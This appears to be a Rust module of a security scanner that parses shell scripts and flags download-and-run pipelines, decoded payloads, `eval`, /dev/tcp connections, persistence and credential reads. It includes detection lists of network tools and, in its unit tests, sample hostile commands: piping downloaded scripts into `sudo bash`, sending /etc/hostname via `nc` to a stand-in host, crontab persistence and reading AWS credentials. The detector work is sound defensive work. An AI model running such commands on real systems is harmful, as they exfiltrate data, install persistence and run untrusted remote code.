//! Shell scripts (bash grammar, also used for `sh`): the programs a script starts, `sh -c`,
//! `eval`, download-and-run pipelines, decoded payloads run by a shell, redirects that write
//! files or open `/dev/tcp`, and the environment variables it reads.

use std::collections::BTreeSet;

use tree_sitter::Node;

use super::{INTERPRETERS, SHELLS, basename, named_children, parse, text, walk};
use crate::out::{Loc, Out, Text};
use crate::rules::R;
use crate::strings::{UNKNOWN, check_literal, host_port, url_hosts};

/// Deepest nesting of `sh -c '...'` strings parsed as scripts in their own right.
const MAX_EMBED: usize = 3;

const BUILTINS: &[&str] = &[
    ".",
    ":",
    "[",
    "[[",
    "alias",
    "bg",
    "bind",
    "break",
    "builtin",
    "caller",
    "cd",
    "command",
    "compgen",
    "complete",
    "continue",
    "declare",
    "dirs",
    "disown",
    "echo",
    "enable",
    "eval",
    "exec",
    "exit",
    "export",
    "false",
    "fc",
    "fg",
    "getopts",
    "hash",
    "help",
    "history",
    "jobs",
    "kill",
    "let",
    "local",
    "logout",
    "mapfile",
    "popd",
    "printf",
    "pushd",
    "pwd",
    "read",
    "readarray",
    "readonly",
    "return",
    "set",
    "shift",
    "shopt",
    "source",
    "suspend",
    "test",
    "time",
    "times",
    "trap",
    "true",
    "type",
    "typeset",
    "ulimit",
    "umask",
    "unalias",
    "unset",
    "wait",
];
/// Programs that run the next word of their command line as a program.
const WRAPPERS: &[&str] = &[
    "exec", "command", "nohup", "sudo", "doas", "env", "xargs", "timeout", "nice", "stdbuf",
    "setsid", "time",
];
const DOWNLOADERS: &[&str] = &["curl", "wget", "fetch", "aria2c", "http", "https"];
const NETWORK: &[&str] = &[
    "curl", "wget", "fetch", "aria2c", "http", "https", "nc", "ncat", "netcat", "socat", "ssh",
    "scp", "sftp", "rsync", "telnet", "ftp", "dig", "nslookup", "host", "ping",
];
/// Variables a shell or the cell sets; reading them is not reading the caller's environment.
const SHELL_VARS: &[&str] = &[
    "PATH",
    "HOME",
    "LANG",
    "TMPDIR",
    "PWD",
    "OLDPWD",
    "RANDOM",
    "LINENO",
    "SECONDS",
    "IFS",
    "OPTARG",
    "OPTIND",
    "REPLY",
    "UID",
    "EUID",
    "PPID",
    "SHLVL",
    "HOSTNAME",
    "BASH_SOURCE",
    "BASH_VERSION",
    "BASHPID",
    "FUNCNAME",
    "PIPESTATUS",
    "BASH_REMATCH",
    "COLUMNS",
    "LINES",
    "SHELL",
    "EPOCHSECONDS",
    "EPOCHREALTIME",
    "BASH_ARGV",
    "BASH_LINENO",
    "GROUPS",
    "HOSTTYPE",
    "OSTYPE",
    "MACHTYPE",
];

/// Scans a shell script.
pub(crate) fn scan(t: &Text<'_>, out: &mut Out) {
    scan_depth(t, out, 0);
}

/// Scans a command line found in a string of another language (`os.system("...")`):
/// every finding points at `at`.
pub(crate) fn scan_embedded(cmdline: &str, at: &Loc, out: &mut Out) {
    let t = Text::embedded(cmdline, at);
    scan_depth(&t, out, 1);
}

fn scan_depth(t: &Text<'_>, out: &mut Out, depth: usize) {
    let language = tree_sitter_bash::LANGUAGE.into();
    let Some(tree) = parse(&language, t, out) else {
        return;
    };
    let root = tree.root_node();
    let src = t.text;
    let mut s = Sh {
        t,
        src,
        assigned: BTreeSet::new(),
        functions: BTreeSet::new(),
        depth,
    };
    walk(root, |n| s.collect(n));
    walk(root, |n| s.visit(n, out));
}

struct Sh<'a> {
    t: &'a Text<'a>,
    src: &'a str,
    assigned: BTreeSet<String>,
    functions: BTreeSet<String>,
    depth: usize,
}

/// The value of a word, raw string or double-quoted string; expansions become [`UNKNOWN`].
pub(crate) fn word_pattern(node: Node<'_>, src: &str) -> String {
    match node.kind() {
        "word" | "number" => super::unescape(text(node, src)),
        "raw_string" | "ansi_c_string" => {
            let s = text(node, src);
            let s = s.strip_prefix('$').unwrap_or(s);
            s.trim_matches('\'').to_owned()
        }
        "string" => {
            let mut v = String::new();
            let mut c = node.walk();
            for ch in node.children(&mut c) {
                match ch.kind() {
                    "string_content" => v.push_str(text(ch, src)),
                    "\"" => {}
                    _ => v.push(UNKNOWN),
                }
            }
            v
        }
        "concatenation" => named_children(node)
            .into_iter()
            .map(|n| word_pattern(n, src))
            .collect(),
        _ => UNKNOWN.to_string(),
    }
}

/// The value of a word when it holds no expansion.
fn word_const(node: Node<'_>, src: &str) -> Option<String> {
    let p = word_pattern(node, src);
    (!p.contains(UNKNOWN)).then_some(p)
}

impl Sh<'_> {
    fn collect(&mut self, n: Node<'_>) {
        match n.kind() {
            "variable_assignment" | "for_statement" => {
                let f = if n.kind() == "for_statement" {
                    "variable"
                } else {
                    "name"
                };
                if let Some(v) = n.child_by_field_name(f) {
                    self.assigned.insert(text(v, self.src).to_owned());
                }
            }
            "declaration_command" => {
                for c in named_children(n) {
                    if c.kind() == "variable_name" {
                        self.assigned.insert(text(c, self.src).to_owned());
                    }
                }
            }
            "function_definition" => {
                if let Some(v) = n.child_by_field_name("name") {
                    self.functions.insert(text(v, self.src).to_owned());
                }
            }
            "command" => {
                let (name, args) = self.command_parts(n);
                if matches!(
                    name.as_deref(),
                    Some("read" | "mapfile" | "readarray" | "getopts")
                ) {
                    for a in args.iter().filter(|a| !a.starts_with('-')) {
                        self.assigned.insert(a.clone());
                    }
                }
            }
            _ => {}
        }
    }

    /// The command's name (const) and its arguments' patterns.
    fn command_parts(&self, n: Node<'_>) -> (Option<String>, Vec<String>) {
        let name = n
            .child_by_field_name("name")
            .and_then(|c| c.named_child(0))
            .and_then(|w| word_const(w, self.src));
        let mut c = n.walk();
        let args = n
            .children_by_field_name("argument", &mut c)
            .map(|a| word_pattern(a, self.src))
            .collect();
        (name, args)
    }

    fn visit(&mut self, n: Node<'_>, out: &mut Out) {
        match n.kind() {
            "command" => self.command(n, out),
            "pipeline" => self.pipeline(n, out),
            "file_redirect" => self.redirect(n, out),
            "simple_expansion" | "expansion" => self.expansion(n, out),
            "word" | "string" | "raw_string" | "concatenation" | "heredoc_body" => {
                self.literal(n, out);
            }
            _ => {}
        }
    }

    fn loc(&self, n: Node<'_>) -> Loc {
        self.t.loc(n.start_byte())
    }

    fn command(&mut self, n: Node<'_>, out: &mut Out) {
        let loc = self.loc(n);
        let Some(name_node) = n.child_by_field_name("name") else {
            return;
        };
        let (name, args) = self.command_parts(n);
        let Some(name) = name else {
            out.emit(
                R::ProcSpawnDynamic,
                &loc,
                format!(
                    "runs a command whose name is computed: `{}`",
                    text(name_node, self.src)
                ),
            );
            return;
        };
        let mut c = n.walk();
        let arg_nodes: Vec<Node<'_>> = n.children_by_field_name("argument", &mut c).collect();

        // Resolve wrappers (`sudo bash`, `env X=1 curl`): every program in the chain is started.
        let mut program = name.clone();
        let mut rest: &[String] = &args;
        let mut rest_nodes: &[Node<'_>] = &arg_nodes;
        for _ in 0..4 {
            self.program(&program, &loc, out);
            if !WRAPPERS.contains(&program.as_str()) {
                break;
            }
            let skip = rest
                .iter()
                .position(|a| !a.starts_with('-') && !a.contains('=') && !is_number(a));
            let Some(i) = skip else { break };
            if rest[i].contains(UNKNOWN) {
                out.emit(
                    R::ProcSpawnDynamic,
                    &loc,
                    format!("`{program}` runs a command whose name is computed"),
                );
                break;
            }
            program = rest[i].clone();
            rest = &rest[i + 1..];
            rest_nodes = rest_nodes.get(i + 1..).unwrap_or(&[]);
        }
        let base = basename(&program).to_owned();

        if base == "eval" || ((base == "source" || base == ".") && !rest.is_empty()) {
            self.eval_like(&base, rest_nodes, &loc, out);
        }
        if base == "crontab" {
            out.emit(
                R::Persistence,
                &loc,
                "runs crontab, which schedules commands to run later",
            );
        }
        if INTERPRETERS.contains(&base.as_str()) {
            for a in rest_nodes
                .iter()
                .filter(|a| a.kind() == "process_substitution")
            {
                self.check_substitution(*a, &loc, out, &base);
            }
        }
        if SHELLS.contains(&base.as_str())
            && let Some(i) = rest.iter().position(|a| is_dash_c(a))
        {
            out.emit(
                R::ShellC,
                &loc,
                format!("`{base} -c` runs a command line through a shell"),
            );
            if let Some(script) = rest_nodes.get(i + 1) {
                self.check_substitution(*script, &loc, out, &format!("{base} -c"));
                if let Some(s) = word_const(*script, self.src)
                    && self.depth < MAX_EMBED
                {
                    let inner = Text::embedded(&s, &loc);
                    scan_depth(&inner, out, self.depth + 1);
                }
            }
        }
        if NETWORK.contains(&base.as_str()) || (base == "git" && git_remote(rest)) {
            out.usage.network(&loc);
            out.emit(R::NetUse, &loc, format!("`{base}` uses the network"));
            self.net_hosts(&base, rest, &loc, out);
        }
    }

    /// Records a started program, unless it is a builtin or a function of the script.
    fn program(&self, p: &str, loc: &Loc, out: &mut Out) {
        if BUILTINS.contains(&p) || self.functions.contains(p) || p.is_empty() {
            return;
        }
        out.usage.exec(p, loc);
        out.emit(R::ProcSpawn, loc, format!("starts `{p}`"));
    }

    fn net_hosts(&self, base: &str, args: &[String], loc: &Loc, out: &mut Out) {
        let mut urls = false;
        for a in args {
            for hp in url_hosts(a) {
                urls = true;
                out.usage.host(hp, loc, true);
            }
        }
        if urls {
            return;
        }
        let plain: Vec<&String> = args.iter().filter(|a| !a.starts_with('-')).collect();
        let hp = match base {
            "nc" | "ncat" | "netcat" | "telnet" => plain.iter().enumerate().find_map(|(i, h)| {
                if is_number(h) {
                    return None;
                }
                let port = plain.get(i + 1)?.parse().ok()?;
                host_port(h, port)
            }),
            "ssh" | "scp" | "sftp" | "rsync" => plain.iter().find_map(|a| {
                let h = a.split_once('@').map_or(a.as_str(), |(_, h)| h);
                let h = h.split(':').next().unwrap_or(h);
                host_port(h, 22)
            }),
            _ => None,
        };
        if let Some(hp) = hp {
            out.usage.host(hp, loc, true);
        }
    }

    fn eval_like(&self, base: &str, args: &[Node<'_>], loc: &Loc, out: &mut Out) {
        let mut dangerous = false;
        for a in args {
            dangerous |= self.check_substitution(*a, loc, out, base);
        }
        if dangerous {
            return;
        }
        let all_const = args.iter().all(|a| word_const(*a, self.src).is_some());
        if base == "eval" && all_const {
            out.emit(R::ExecLiteral, loc, "eval of a literal");
        } else if !all_const {
            out.emit(
                R::ShellEval,
                loc,
                format!("`{base}` of a value built at run time"),
            );
        }
    }

    /// Flags a command or process substitution inside `node` that downloads or decodes what
    /// the enclosing command runs. Returns whether it flagged something.
    fn check_substitution(&self, node: Node<'_>, loc: &Loc, out: &mut Out, how: &str) -> bool {
        let mut downloads = false;
        let mut decodes = false;
        walk(node, |n| {
            if n.kind() == "command" {
                let (name, args) = self.command_parts(n);
                let name = name.unwrap_or_default();
                downloads |= DOWNLOADERS.contains(&basename(&name));
                decodes |= is_decoder(basename(&name), &args);
            }
        });
        if downloads {
            out.emit(
                R::RemotePipeExec,
                loc,
                format!("`{how}` runs code downloaded at run time"),
            );
        } else if decodes {
            out.emit(
                R::ObfuscatedExec,
                loc,
                format!("`{how}` runs code decoded at run time"),
            );
        }
        downloads || decodes
    }

    fn pipeline(&self, n: Node<'_>, out: &mut Out) {
        let loc = self.loc(n);
        let mut fetched = false;
        let mut decoded = false;
        for stage in named_children(n) {
            let cmd = if stage.kind() == "redirected_statement" {
                stage.child_by_field_name("body")
            } else {
                Some(stage)
            };
            let Some(cmd) = cmd.filter(|c| c.kind() == "command") else {
                continue;
            };
            let (name, args) = self.command_parts(cmd);
            let mut name = name.unwrap_or_default();
            let mut args: &[String] = &args;
            while WRAPPERS.contains(&basename(&name)) {
                let Some(i) = args
                    .iter()
                    .position(|a| !a.starts_with('-') && !a.contains('='))
                else {
                    break;
                };
                name = args[i].clone();
                args = &args[i + 1..];
            }
            let base = basename(&name);
            if (fetched || decoded) && INTERPRETERS.contains(&base) {
                if fetched {
                    out.emit(
                        R::RemotePipeExec,
                        &loc,
                        format!("downloaded code is piped into `{base}`"),
                    );
                } else {
                    out.emit(
                        R::ObfuscatedExec,
                        &loc,
                        format!("decoded data is piped into `{base}`"),
                    );
                }
                return;
            }
            fetched |= DOWNLOADERS.contains(&base);
            decoded |= is_decoder(base, args);
        }
    }

    fn redirect(&self, n: Node<'_>, out: &mut Out) {
        let Some(dest) = n.child_by_field_name("destination") else {
            return;
        };
        let loc = self.loc(n);
        let target = word_pattern(dest, self.src);
        if let Some(rest) = target
            .strip_prefix("/dev/tcp/")
            .or_else(|| target.strip_prefix("/dev/udp/"))
        {
            out.usage.network(&loc);
            out.emit(
                R::NetUse,
                &loc,
                "opens a network connection through /dev/tcp",
            );
            if let Some((h, p)) = rest.split_once('/')
                && let Some(hp) = p.parse().ok().and_then(|p| host_port(h, p))
            {
                out.usage.host(hp, &loc, true);
            }
            return;
        }
        let mut c = n.walk();
        let writes = n
            .children(&mut c)
            .any(|ch| !ch.is_named() && text(ch, self.src).contains('>'));
        let harmless = matches!(target.as_str(), "/dev/null" | "/dev/stdout" | "/dev/stderr")
            || target.starts_with('&')
            || target.chars().all(|c| c.is_ascii_digit() || c == '-');
        if writes && !harmless {
            out.emit(R::FileWrite, &loc, format!("writes `{}`", show(&target)));
            if !target.contains(UNKNOWN) {
                out.usage.write(&target, &loc);
            }
        }
    }

    fn expansion(&self, n: Node<'_>, out: &mut Out) {
        let Some(v) = named_children(n)
            .into_iter()
            .find(|c| c.kind() == "variable_name")
        else {
            return;
        };
        let name = text(v, self.src);
        let positional = name.starts_with(|c: char| c.is_ascii_digit());
        if positional || self.assigned.contains(name) || SHELL_VARS.contains(&name) {
            return;
        }
        out.usage.env(name, &self.loc(n));
    }

    fn literal(&self, n: Node<'_>, out: &mut Out) {
        let parent = n.parent();
        let pk = parent.map(|p| p.kind()).unwrap_or("");
        if matches!(
            pk,
            "string" | "concatenation" | "command_name" | "function_definition"
        ) {
            return;
        }
        let s = if n.kind() == "heredoc_body" {
            text(n, self.src).to_owned()
        } else {
            word_pattern(n, self.src)
        };
        let call_site = pk == "command"
            && parent
                .and_then(|p| self.command_parts(p).0)
                .is_some_and(|name| NETWORK.contains(&basename(&name)));
        check_literal(out, &self.loc(n), &s, call_site);
    }
}

fn is_dash_c(a: &str) -> bool {
    a == "-c" || (a.starts_with('-') && !a.starts_with("--") && a.ends_with('c') && a.len() <= 5)
}

fn is_number(a: &str) -> bool {
    !a.is_empty() && a.chars().all(|c| c.is_ascii_digit() || c == '.')
}

fn is_decoder(base: &str, args: &[String]) -> bool {
    let has = |f: &str| args.iter().any(|a| a == f);
    match base {
        "base64" | "base32" | "basenc" => has("-d") || has("--decode") || has("-D"),
        "xxd" => has("-r") || has("-revert") || has("-r -p") || has("-rp"),
        "openssl" => has("-d") || has("-base64"),
        "gzip" | "bzip2" | "xz" => has("-d") || has("--decompress"),
        "gunzip" | "zcat" | "bunzip2" | "unxz" | "xzcat" | "uudecode" | "rev" => true,
        _ => false,
    }
}

fn git_remote(args: &[String]) -> bool {
    args.iter().find(|a| !a.starts_with('-')).is_some_and(|s| {
        matches!(
            s.as_str(),
            "clone" | "fetch" | "pull" | "push" | "ls-remote"
        )
    })
}

fn show(p: &str) -> String {
    p.replace(UNKNOWN, "…")
}

#[cfg(test)]
mod tests {
    use crate::lang::scan_one;

    fn rules(src: &str) -> Vec<String> {
        scan_one("t.sh", src).0
    }

    fn has(src: &str, want: &str) -> bool {
        let r = rules(src);
        let hit = r.iter().any(|x| x == want);
        if !hit {
            eprintln!("{want} not in {r:?}");
        }
        hit
    }

    #[test]
    fn download_and_run() {
        assert!(has(
            "curl -fsSL https://x.example/i.sh | sudo bash\n",
            "remote-pipe-exec@1:1"
        ));
        assert!(has(
            "bash -c \"$(curl -fsSL https://x.example/i)\"\n",
            "remote-pipe-exec@1:1"
        ));
        assert!(has(
            "eval \"$(wget -qO- https://x.example/e)\"\n",
            "remote-pipe-exec@1:1"
        ));
        assert!(has(
            "source <(curl -s https://x.example/env)\n",
            "remote-pipe-exec@1:1"
        ));
        assert!(!has(
            "curl -o out.json https://x.example/a.json\n",
            "remote-pipe-exec@1:1"
        ));
    }

    #[test]
    fn decoded_and_evaluated() {
        assert!(has("echo aWQ= | base64 -d | sh\n", "obfuscated-exec@1:1"));
        assert!(has(
            "eval \"$(echo aWQ= | base64 --decode)\"\n",
            "obfuscated-exec@1:1"
        ));
        assert!(has("eval \"$cmd\"\n", "shell-eval@1:1"));
        assert!(has("sh -c 'ls -l'\n", "shell-c@1:1"));
        assert!(has("$tool --version\n", "proc-spawn-dynamic@1:1"));
    }

    #[test]
    fn programs_env_and_writes() {
        let src = "#!/bin/bash\nout=/tmp/x\nlog() { echo \"$*\"; }\nlog start\ngit -C \"$REPO\" log -1 > \"$out\"\necho \"$API_KEY\" >> /srv/keys\nenv FOO=1 timeout 5 jq . f.json\nfor f in *.md; do wc -l \"$f\"; done\n";
        let (r, u) = scan_one("t.sh", src);
        let exec: Vec<&String> = u.exec.keys().collect();
        assert_eq!(exec, vec!["env", "git", "jq", "timeout", "wc"], "{r:?}");
        let env: Vec<&String> = u.env.keys().collect();
        assert_eq!(env, vec!["API_KEY", "REPO"]);
        assert_eq!(u.writes.keys().collect::<Vec<_>>(), vec!["/srv/keys"]);
    }

    #[test]
    fn network_commands_and_dev_tcp() {
        let (_, u) = scan_one("t.sh", "nc -w 3 relay.example.net 9001 < /etc/hostname\n");
        assert!(u.network.is_some());
        assert!(
            u.hosts.contains_key("relay.example.net:9001"),
            "{:?}",
            u.hosts
        );
        let (_, u) = scan_one("t.sh", "exec 3<>/dev/tcp/203.0.113.5/80\n");
        assert!(u.hosts.contains_key("203.0.113.5:80"), "{:?}", u.hosts);
    }

    #[test]
    fn persistence_and_credentials() {
        assert!(has("echo 'x' >> ~/.bashrc\n", "persistence@1:13"));
        assert!(has(
            "(crontab -l; echo '* * * * * x') | crontab -\n",
            "persistence@1:2"
        ));
        assert!(has("cat ~/.aws/credentials\n", "credential-path@1:5"));
    }
}
